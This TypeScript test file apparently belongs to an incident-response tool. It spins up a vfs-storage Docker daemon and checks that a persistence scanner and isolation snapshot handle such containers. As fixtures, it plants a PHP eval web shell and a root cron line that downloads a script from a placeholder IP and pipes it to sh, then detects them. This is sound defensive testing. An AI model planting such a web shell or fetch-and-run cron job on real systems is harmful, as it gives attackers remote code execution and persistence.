import { execFile, spawn } from 'node:child_process';
import { createHash } from 'node:crypto';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { parseJson, runIr } from '../helpers/cli.js';
import { dockerEnv, serviceEnv } from '../helpers/services.js';

/**
 * A container whose storage is not overlay2 falls back and says so: a second, real dockerd with the
 * vfs storage driver (its own data root, socket and exec root, no bridge and no iptables), started for
 * this file in a network namespace of its own and stopped after it. Never in the test dockerd's
 * namespace: dockerd --bridge none deletes any interface named docker0 it finds there. Running, its container is
 * read through /proc/PID/root and its changes come from `docker diff`; stopped, `docker diff` names
 * the changes and `docker cp` reads them, for the scan and for the isolation snapshot alike.
 */
const exec = promisify(execFile);
const dir = mkdtempSync('/tmp/irvfs-');
const sock = join(dir, 'sock');
const env = (): NodeJS.ProcessEnv => ({ ...dockerEnv(), DOCKER_HOST: `unix://${sock}` });
const project = `irvfs${Math.random().toString(36).slice(2, 7)}`;
const web = `${project}-web-1`;
let started = false;

const vfs = async (...args: string[]) => (await exec('docker', args, { env: { ...process.env, ...env() }, maxBuffer: 64 << 20 })).stdout;

async function waitFor(what: string, ms: number, ok: () => Promise<boolean>): Promise<void> {
  const end = Date.now() + ms;
  while (!(await ok().catch(() => false))) {
    if (Date.now() > end) throw new Error(`${what} did not happen within ${ms} ms`);
    await new Promise((r) => setTimeout(r, 250));
  }
}

beforeAll(async () => {
  serviceEnv();
  // the key path keeps dockerd 20.10 from writing /etc/docker/key.json
  writeFileSync(join(dir, 'daemon.json'), JSON.stringify({ 'deprecated-key-path': join(dir, 'key.json') }));
  const child = spawn(
    'setsid',
    ['unshare', '--net', '--', '/usr/sbin/dockerd', '--config-file', join(dir, 'daemon.json'), '--data-root', join(dir, 'data'), '--exec-root', join(dir, 'run'), '--pidfile', join(dir, 'pid'), '-H', `unix://${sock}`, '--storage-driver', 'vfs', '--bridge', 'none', '--iptables=false', '--ip6tables=false', '--ip-masq=false', '--cgroup-parent', '/irtest-vfs', '--shutdown-timeout', '2'],
    { detached: true, stdio: ['ignore', 'ignore', 'ignore'] },
  );
  child.unref();
  started = true;
  await waitFor('the vfs dockerd', 60_000, async () => (await vfs('info', '--format', '{{.Driver}}')).trim() === 'vfs');
  await exec('bash', ['-c', `docker -H "${dockerEnv().DOCKER_HOST}" save ir-busybox:test | docker -H "unix://${sock}" load`], { env: { ...process.env, ...dockerEnv() } });
  writeFileSync(join(dir, 'compose.yaml'), 'services:\n  web:\n    image: ir-busybox:test\n    network_mode: none\n    command: ["sh", "-c", "trap \'exit 0\' TERM; while :; do sleep 1 & wait $$!; done"]\n');
  await exec('docker', ['compose', '-p', project, '-f', join(dir, 'compose.yaml'), 'up', '-d'], { env: { ...process.env, ...env() }, cwd: dir });
  await vfs('exec', web, 'sh', '-c', "mkdir -p /var/www/html/uploads /var/spool/cron/crontabs /tmp/.x && printf '<?php eval(base64_decode($_POST[\"x\"])); ?>\\n' > /var/www/html/uploads/img.php && echo '* * * * * wget -q -O- http://203.0.113.8/x | sh' > /var/spool/cron/crontabs/root && cp /bin/busybox /tmp/.x/k && chmod 755 /tmp/.x/k");
}, 180_000);

afterAll(async () => {
  await exec('docker', ['compose', '-p', project, '-f', join(dir, 'compose.yaml'), 'down', '--timeout', '1'], { env: { ...process.env, ...env() }, cwd: dir }).catch(() => undefined);
  if (started) {
    const pid = Number(readFileSync(join(dir, 'pid'), 'utf8').trim());
    if (pid > 1) {
      process.kill(pid, 'SIGTERM');
      await waitFor('the vfs dockerd to stop', 30_000, async () => {
        try {
          process.kill(pid, 0);
          return false;
        } catch {
          return true;
        }
      }).catch(() => process.kill(pid, 'SIGKILL'));
    }
  }
  // anything the engine left mounted under its dirs (shm, netns) is detached before the removal walks there
  const mounts = readFileSync('/proc/self/mountinfo', 'utf8').split('\n').map((l) => l.split(' ')[4] ?? '').filter((m) => m.startsWith(`${dir}/`)).sort().reverse();
  for (const m of mounts) await exec('umount', ['-l', m]).catch(() => undefined);
  rmSync(dir, { recursive: true, force: true });
}, 60_000);

interface ScanJson {
  findings: { severity: string; rule: string; path?: string; container?: { name: string } }[];
  containers: { runs: { name: string; view: string; changesFrom: string; notes: string[]; error?: string }[] };
}
const PATHS = ['/var/www/html/uploads/img.php', '/var/spool/cron/crontabs/root', '/tmp/.x/k'];
const RANK: Record<string, number> = { info: 0, low: 1, medium: 2, high: 3, critical: 4 };

function expectFound(out: ScanJson): void {
  for (const path of PATHS) expect(out.findings.filter((f) => f.container?.name === web && f.path === path && RANK[f.severity]! >= RANK.medium!).length).toBeGreaterThan(0);
}

test('running on vfs: read through /proc/PID/root, changes from docker diff, and the note says so', async () => {
  const r = await runIr(['persistence-scan', '--json', '--container', web, '--only', 'cron,webshell,containers'], { env: env(), timeoutMs: 120_000 });
  const out = parseJson<ScanJson>(r);
  const run = out.containers.runs.find((x) => x.name === web)!;
  expect(run).toMatchObject({ view: 'running', changesFrom: 'docker-diff' });
  expect(run.notes.join(' ')).toMatch(/storage driver vfs is not read directly.*falls back to its running view/);
  expectFound(out);
  const human = await runIr(['persistence-scan', '--container', web, '--only', 'containers'], { env: env(), timeoutMs: 120_000 });
  expect(human.stdout).toMatch(/note: storage driver vfs is not read directly/);
}, 180_000);

test('stopped on vfs: docker diff names the changes and docker cp reads them; the scan and the snapshot say so', async () => {
  const want = createHash('sha256').update((await exec('docker', ['exec', web, 'cat', '/tmp/.x/k'], { env: { ...process.env, ...env() }, encoding: 'buffer', maxBuffer: 64 << 20 })).stdout).digest('hex');
  const caseDir = join(dir, 'case');
  const iso = await runIr(['isolate', '-p', project, '--mode', 'down', '--yes', '--json', '--case', caseDir], { env: env(), timeoutMs: 180_000 });
  expect(iso.code).toBe(0);
  const snap = parseJson<{ snapshot: { path: string; layers: { name: string; how: string }[] } }>(iso).snapshot;
  // the cut stopped it: no running view any more, the engine's own copy instead
  expect(snap.layers.find((l) => l.name === web)?.how).toBe('docker-cp');
  const { stdout } = await exec('tar', ['xzf', snap.path, '-O', `docker/${project}/${web}/layer/tmp/.x/k`], { encoding: 'buffer', maxBuffer: 64 << 20 });
  expect(createHash('sha256').update(stdout).digest('hex')).toBe(want);
  const log = (await exec('tar', ['xzf', snap.path, '-O', 'acquisition.log'])).stdout;
  expect(log).toMatch(/storage driver vfs is not read directly/);
  expect(log).toMatch(/read from docker cp/);
  expect((await runIr(['evidence', 'verify', snap.path])).code).toBe(0);

  // bring it back stopped, to scan a stopped vfs container
  await exec('docker', ['compose', '-p', project, '-f', join(dir, 'compose.yaml'), 'up', '-d'], { env: { ...process.env, ...env() }, cwd: dir });
  await vfs('exec', web, 'sh', '-c', "mkdir -p /var/www/html/uploads /var/spool/cron/crontabs /tmp/.x && printf '<?php eval(base64_decode($_POST[\"x\"])); ?>\\n' > /var/www/html/uploads/img.php && echo '* * * * * wget -q -O- http://203.0.113.8/x | sh' > /var/spool/cron/crontabs/root && cp /bin/busybox /tmp/.x/k && chmod 755 /tmp/.x/k");
  await vfs('stop', '-t', '1', web);
  const r = await runIr(['persistence-scan', '--json', '--container', web, '--only', 'cron,webshell,containers'], { env: env(), timeoutMs: 120_000 });
  const out = parseJson<ScanJson>(r);
  const run = out.containers.runs.find((x) => x.name === web)!;
  expect(run).toMatchObject({ view: 'docker-cp', changesFrom: 'docker-diff' });
  expect(run.notes.join(' ')).toMatch(/falls back to docker diff and docker cp/);
  expectFound(out);
}, 300_000);
